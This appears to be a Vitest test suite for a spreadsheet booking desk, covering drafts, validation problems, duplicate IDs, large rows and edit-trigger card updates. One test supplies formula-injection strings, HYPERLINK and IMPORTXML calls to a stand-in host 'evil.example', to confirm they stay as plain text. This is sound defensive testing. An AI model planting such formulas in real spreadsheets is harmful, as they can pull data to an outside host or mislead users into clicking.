import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Desk } from './support/desk.ts';

let desk: Desk;
beforeAll(async () => {
  desk = await Desk.open();
});
afterAll(() => desk.close());

describe('a draft', () => {
  it('becomes Ready when it is published by name', async () => {
    desk.add({ 'Booking ID': 'DRAFT-1', Status: 'Draft' });
    await desk.publish('DRAFT-1');
    expect(desk.row('DRAFT-1')).toMatchObject({ Status: 'Ready', State: 'Published', Problem: '' });
  });

  it('is left alone by “Publish all ready” and by the timer', async () => {
    desk.add({ 'Booking ID': 'DRAFT-2', Status: 'Draft' }, { 'Booking ID': 'READY-1' });
    await desk.run('publishAllReady');
    await desk.timer(6);
    expect(desk.row('READY-1').State).toBe('Published');
    expect(desk.row('DRAFT-2')).toMatchObject({
      Status: 'Draft',
      State: '',
      'Guest page': '',
      Published: '',
    });
    expect(await desk.outside.object('g/draft-2.html')).toBeUndefined();
  });
});

describe('a row with problems', () => {
  const faults = {
    Party: 'some',
    Date: 'soon',
    Start: 'noonish',
    Hours: '0',
    Location: 'Nowhere',
    Gross: 'a lot',
    Crew: 'sam, nobody',
    Captain: '',
    'Crew hours': '-1',
  };

  it('gets all of them at once, each with its column, and nothing leaves for it', async () => {
    desk.add({ 'Booking ID': 'BAD-1', ...faults });
    const { requests, status } = await desk.publish('BAD-1');
    expect({ status, requests }).toEqual({ status: 'completed', requests: [] });

    const { problems, revenue, guestPageUrl } = await desk.describe('BAD-1');
    expect(problems.map(({ column }) => column).sort()).toEqual(Object.keys(faults).sort());
    expect({ revenue, guestPageUrl }).toEqual({ revenue: null, guestPageUrl: null });

    const { State, Problem, ...row } = desk.row('BAD-1');
    expect(State).toBe('Needs attention');
    expect(row).toMatchObject({ 'Guest page': '', 'Crew replies': '', Published: '' });
    expect(Problem.split('\n')).toEqual(problems.map(({ message }) => message));
    for (const { column, message } of problems) {
      const cell = faults[column as keyof typeof faults];
      expect(message).toContain(`${column} is ${cell === '' ? 'empty' : `“${cell}”`}. `);
    }
    expect(desk.system.messages.take().join()).toContain('See the column Problem: BAD-1.');
  });

  it('loses them when it is mended and published again', async () => {
    desk.change('BAD-1', {
      Party: '4',
      Date: '2027-08-20',
      Start: '10:00 AM',
      Hours: '2',
      Location: 'shelter island',
      Gross: '$500',
      Crew: 'SAM',
      Captain: 'kit',
      'Crew hours': '',
    });
    await desk.publish('BAD-1');
    expect(desk.row('BAD-1')).toMatchObject({
      State: 'Published',
      Problem: '',
      'Guest page': 'https://queenofsandiego.com/g/bad-1',
    });
  });

  it('gets its own problem when others share its id or have none, and blank rows get none', async () => {
    const last = desk.sheet('Bookings').contentExtent().rows;
    desk.add(
      { 'Booking ID': 'TWIN' },
      { 'Booking ID': '', Party: '0' },
      { 'Booking ID': 'twin' },
      { 'Booking ID': '' },
    );
    // A blank row among them.
    await desk.captain.insertRows('Bookings', last + 2, 1);
    const ranges = [`${last + 1}:${last + 5}`];
    const { requests } = await desk.run('publishSelected', { selection: { sheet: 'Bookings', ranges } });
    expect(requests).toEqual([]);
    const rows = desk.rows('Bookings').slice(last - 1);
    const problems = rows.map(({ State, Problem }) => [State, ...(Problem ?? '').split('\n')]);
    const attention = 'Needs attention';
    expect(problems).toEqual([
      [attention, `Booking ID is “TWIN”. Row ${last + 4} has it too: give each row its own.`],
      ['', ''],
      [
        attention,
        expect.stringMatching(/^Booking ID is empty\. /),
        expect.stringMatching(/^Party is “0”\. /),
      ],
      [attention, `Booking ID is “twin”. Row ${last + 1} has it too: give each row its own.`],
      [attention, expect.stringMatching(/^Booking ID is empty\. /)],
    ]);
    await desk.captain.deleteRows('Bookings', last + 1, 5);
  });
});

describe('a row that holds as much as a row can', () => {
  it('is taken by every system', async () => {
    const ids = Array.from({ length: 40 }, (_, index) => `hand-${index}`);
    desk.paste(
      'crew',
      ...ids.map((id) => ({
        ...{
          'Crew ID': id,
          Name: 'N'.repeat(100),
          Role: `role ${id}`.padEnd(40, 'x'),
          Email: `o'${id}.r&b+1@crew.example`,
        },
        ...{ Phone: '+1'.padEnd(40, '0'), 'Hourly rate': '10000', Active: 'TRUE' },
      })),
    );
    const text = (length: number) => '\u05d0'.repeat(length);
    desk.paste('locations', {
      Location: text(100),
      'Fee %': '100%',
      Address: text(500),
      'Map link': '',
      'Meeting point': text(500),
      Parking: text(500),
    });
    desk.add({
      'Booking ID': 'X'.repeat(32),
      ...{
        Source: text(100),
        Boat: text(100),
        Guest: text(200),
        Party: '1000',
        Hours: '72',
        Location: text(100),
      },
      ...{ Gross: '10000000', Crew: ids.join(','), 'Crew hours': '96', Date: '2027-07-04' },
      ...{ 'Guest notes': text(5000), 'Crew notes': text(5000), 'Private notes': text(5000) },
    });
    await desk.publish('X'.repeat(32));
    expect(desk.row('X'.repeat(32))).toMatchObject({ Problem: '', State: 'Published' });
  });
});

describe('text that looks like a formula', () => {
  it('never becomes one, in any tab, even where a column has lost its text format', async () => {
    const kanban = desk.sheet('Kanban');
    const card = { row: 2, column: 2, rows: kanban.data.rows - 1, columns: 1 };
    kanban.update(card, ({ numberFormat: _text, ...cell }) => cell);
    const formula = '=HYPERLINK("https://evil.example","Click")';
    desk.add({
      'Booking ID': '-FORMULA',
      Source: '=SUM(1,2)',
      Boat: '@Boat',
      Guest: formula,
      'Guest notes': '=IMPORTXML("https://evil.example","/")',
      'Crew notes': '-2+3',
      'Private notes': '=1+1',
    });
    await desk.publish('-FORMULA');
    expect(desk.row('-FORMULA')).toMatchObject({ Guest: formula, State: 'Published', Problem: '' });
    expect(desk.card('-FORMULA')?.Card).toMatch(/^=SUM\(1,2\) — /);
    expect(desk.board()['New Bookings']?.join('\n')).toContain('=SUM(1,2) — ');

    for (const { data } of desk.system.workbook.sheets()) {
      const formulas = data.cells.flatMap((cells) => cells.flatMap((cell) => cell?.formula ?? []));
      expect([data.name, formulas]).toEqual([data.name, []]);
      // Text that a script wrote with an apostrophe in front, so that it is no formula, must not show it.
      const shown = data.cells.flatMap((cells) => cells.map((cell) => String(cell?.value ?? '')));
      expect(shown.filter((text) => text.startsWith("'"))).toEqual([]);
    }
    const [event] = await desk.outside.crewEvents('-FORMULA');
    expect(event?.guest_name).toBe(formula);
  });
});

describe('the simple edit trigger', () => {
  const tilesOf = (title: string) =>
    Object.entries(desk.board()).flatMap(([lane, tiles]) =>
      tiles.filter((tile) => tile.startsWith(title)).map((tile) => `${lane}: ${tile.split('\n')[3]}`),
    );
  const pasted = (bookingId: string, source: string, gross: string) => [
    ...[bookingId, source, '', 'Ana Silva', '4', '2027-09-01', '10:00 AM', '2', 'Shelter Island', gross],
    ...['sam', 'kit', '', '', '', '', 'Draft'],
  ];

  it('makes card and tile of a new row, and asks nobody outside', async () => {
    const row = desk.sheet('Bookings').contentExtent().rows + 1;
    const lines = [pasted('EDIT-1', 'Anchor', '1000'), pasted('EDIT-2', 'Bowline', '2000')];
    const { requests, executions } = await desk.observed(async () => ({
      executions: await desk.captain.edit('Bookings', `A${row}`, lines),
    }));
    expect(executions.map(({ functionName, status }) => [functionName, status])).toContainEqual([
      'onEdit',
      'completed',
    ]);
    expect(requests).toEqual([]);
    expect(desk.card('EDIT-1')).toMatchObject({
      Lane: 'New Bookings',
      Card: 'Anchor — September 1 (2h)',
      Gross: '$1,000.00',
      // 25 × 4 h, 50 × 2 h, 12.5 %
      'Crew cost': '$100.00',
      'Captain cost': '$100.00',
      'Port fee': '$125.00',
      Net: '$675.00',
      'Crew replies': '',
      'Guest page': '',
    });
    expect(tilesOf('Anchor')).toEqual(['New Bookings: net $675.00']);
    expect(tilesOf('Bowline')).toEqual(['New Bookings: net $1,550.00']);
    expect(desk.row('EDIT-1').State).toBe('');
  });

  it('keeps each card with its booking when rows are sorted', async () => {
    const { rows, columns } = desk.sheet('Bookings').contentExtent();
    const before = desk.rows('Kanban');
    const order = desk.rows('Bookings').map((row) => row['Booking ID']);
    await desk.captain.sort('Bookings', `A2:${'V'}${rows}`, [{ column: 4, ascending: true }]);
    expect(columns).toBe(22);
    expect(desk.rows('Bookings').map((row) => row['Booking ID'])).not.toEqual(order);
    expect(desk.rows('Kanban')).toEqual(before);

    await desk.edit('EDIT-1', { Gross: '1,100' });
    const changed = desk.rows('Kanban').filter((card, index) => card.Net !== before[index]?.Net);
    expect(changed).toMatchObject([{ 'Booking ID': 'EDIT-1', Gross: '$1,100.00', Net: '$762.50' }]);
  });

  it('leaves the lane to the captain', async () => {
    const lane = desk.rows('Kanban').findIndex((card) => card['Booking ID'] === 'EDIT-2') + 2;
    await desk.captain.edit('Kanban', `A${lane}`, [['Reconciled']]);
    await desk.edit('EDIT-2', { Gross: '3000' });
    expect(desk.card('EDIT-2')).toMatchObject({ Lane: 'Reconciled', Net: '$2,425.00' });
    expect(tilesOf('Bowline')).toEqual(['Reconciled: net $2,425.00']);
  });

  it('takes the card of a deleted row away, unless something of it was published', async () => {
    await desk.captain.deleteRows('Bookings', desk.rowNumber('EDIT-1'), 1);
    expect(desk.card('EDIT-1')).toBeUndefined();
    expect(tilesOf('Anchor')).toEqual([]);
    expect(desk.card('EDIT-2')).toBeDefined();

    await desk.captain.deleteRows('Bookings', desk.rowNumber('READY-1'), 1);
    expect(desk.card('READY-1')).toMatchObject({ Net: '$289.41' });
    expect(await desk.outside.crewEvents('READY-1')).toHaveLength(1);
  });
});
